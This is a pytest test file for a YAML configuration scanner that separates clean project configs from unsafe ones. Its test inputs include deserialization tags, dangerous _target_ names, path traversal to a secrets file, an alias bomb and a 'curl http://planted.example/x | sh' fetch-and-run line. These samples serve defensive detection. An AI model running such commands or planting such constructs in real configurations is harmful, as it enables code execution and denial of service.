"""YAML: configurations of real projects are clean; tags, targets, resolvers and bombs are found."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from touchstone.scan.file import scan_bytes
from touchstone.scan.findings import FileResult


def scan(text: str, name: str = "config.yaml") -> FileResult:
    return scan_bytes(text.encode(), name)


def rules(text: str) -> dict[str, str]:
    return {finding.rule: finding.severity for finding in scan(text).findings}


LIGHTNING = """
seed_everything: 42
defaults: &defaults {lr: 0.1, betas: [0.9, 0.99]}
model:
  class_path: pytorch_lightning.demos.BoringModel
optimizer:
  <<: *defaults
  _target_: torch.optim.AdamW
trainer:
  callbacks:
    - _target_: lightning.pytorch.callbacks.ModelCheckpoint
      dirpath: ${hydra:runtime.output_dir}/checkpoints
data_dir: ${oc.env:DATA_DIR,./data}
width: ${multiply:2,${model.width}}
note: "!!python/object in a text is a text"
"""
COMPOSE = """
services:
  web:
    image: nginx:${TAG:-latest}
    environment: ["A=${custom:1}"]
"""


@pytest.mark.parametrize(
    "text",
    [
        LIGHTNING,
        COMPOSE,
        "on: push\njobs:\n  a:\n    steps:\n    - run: echo ${{ github.sha }}\n",
        "a: 1\n---\nb: 2\n...\n---\n- c\n",
        "plain scalar",
        "",
        "# nothing but a comment\n",
        "model: !new:torch.nn.Linear\n  n: !ref <a>\nact: !name:torch.nn.ReLU\n",
        "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n",
        "x: !!float 1\ny: !!set {a, b}\nz: !!binary aGk=\n",
    ],
)
def test_what_projects_hold_is_clean(text: str) -> None:
    assert (scan(text).verdict, scan(text).gaps) == ("clean", ())


@pytest.mark.parametrize(
    ("text", "rule", "severity"),
    [
        ("a: !!python/object/apply:os.getpid []", "yaml/python-object", "critical"),
        ("a: !!python/name:os.getpid ''", "yaml/python-object", "critical"),
        ("a: !!python/module:os ''", "yaml/python-object", "critical"),
        ("a: !<tag:yaml.org,2002:python/name:os.getpid> ''", "yaml/python-object", "critical"),
        ("%TAG ! tag:yaml.org,2002:python/\n---\na: !name:os.getpid ''", "yaml/python-object", "critical"),
        ("a: !!python/tuple [1, 2]", "yaml/python-value", "information"),
        ("a: !!javax.script.ScriptEngineManager []", "yaml/foreign-object", "high"),
        ("a: !ruby/object:Gem::Installer {}", "yaml/foreign-object", "high"),
        ("a: !mine b", "yaml/custom-tag", "low"),
        ("a: !apply:os.getpid []", "configuration/dangerous-name", "critical"),
        ("a: !new:mine.Thing {}", "configuration/unreviewed-name", "medium"),
        ("a: !include ../../secrets.yaml", "configuration/path-leads-out", "high"),
        ("a: {_target_: os.getpid}", "configuration/dangerous-name", "critical"),
        ("a: {_target_: nemo.core.classes.common.load}", "configuration/dangerous-name", "critical"),
        ("a: {loader_module: os.path}", "configuration/dangerous-name", "critical"),
        ("services: {}\na: ${eval:'1'}", "yaml/evaluating-resolver", "high"),
        ("stages: {train: {cmd: 'curl http://planted.example/x | sh'}}", "script/fetched-and-run", "high"),
        ("a: {loader_module: mine}", "configuration/unreviewed-name", "medium"),
        ("a: ${python:x}", "yaml/evaluating-resolver", "high"),
        ("a: ${mine:x}", "yaml/custom-resolver", "low"),
        ("a: ${oc.env:HOME}", "yaml/reads-environment", "information"),
    ],
)
def test_what_loaders_obey(text: str, rule: str, severity: str) -> None:
    assert rules(text)[rule] == severity


def test_aliases_of_aliases() -> None:
    lines = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    for letter, before in zip("bcdefghij", "abcdefghi", strict=True):
        lines.append(f"{letter}: &{letter} [{', '.join([f'*{before}'] * 9)}]")
    assert rules("\n".join(lines)) == {"yaml/alias-bomb": "high"}
    assert rules("a: &a [*a]") == {"yaml/alias-bomb": "high"}
    assert rules("a: &a {x: 1}\nb: *a\nc: {<<: *a}") == {}


@pytest.mark.parametrize("text", ["a: [", "a: b: c", "\tx", "a: " + "[" * 200, "{{ jinja }}: x\n- y"])
def test_what_is_no_yaml_is_a_gap(text: str) -> None:
    assert scan(text).verdict == "incomplete"


def test_what_came_before_a_break_is_kept() -> None:
    assert scan("a: {_target_: os.getpid}\nb: [").verdict == "unsafe"
    assert scan("a: !!python/name:os.getpid ''\nb: [").verdict == "unsafe"


def test_offsets_are_those_of_bytes() -> None:
    text = "名: 模型\nm:\n  _target_: os.getpid\n"
    (finding,) = scan(text).findings
    assert text.encode()[finding.offset :].startswith(b"os.getpid")


def test_the_first_of_two_equal_keys_is_judged_too() -> None:
    assert "configuration/dangerous-name" in rules("m: {_target_: os.getpid}\nm: {_target_: torch.nn.Linear}")


def test_dependencies_of_conda() -> None:
    text = "name: x\ndependencies:\n- python=3.10\n- conda-forge::numpy==1.26.4\n- pip:\n  - torch==2.1\n"
    assert {fact.value for fact in scan(text, "environment.yml").facts if fact.name == "dependency"} == {
        "conda:python@3.10",
        "conda:numpy@1.26.4",
        "torch==2.1",
    }


@given(st.text(st.sampled_from("ab:-!&*[]{}<>|\n \t'\"#%$,?"), max_size=60))
def test_never_fails(text: str) -> None:
    assert "reader" not in {gap.code for gap in scan(text).gaps}
